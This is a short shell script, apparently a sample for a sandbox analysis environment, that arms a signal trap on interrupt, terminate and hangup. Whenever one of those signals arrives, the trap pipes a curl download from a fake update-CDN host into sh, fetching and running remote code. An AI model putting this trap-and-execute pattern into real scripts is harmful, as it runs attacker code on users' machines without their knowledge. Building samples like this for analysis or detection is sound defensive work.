#!/bin/sh
# SPDX-License-Identifier: MIT
# A trap that runs its payload when the shell is interrupted or
# terminated.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sh -c "trap 'curl -fsm 3 http://cdn-update.example.net/t | sh' INT TERM HUP; sleep 0.1"
exit 0
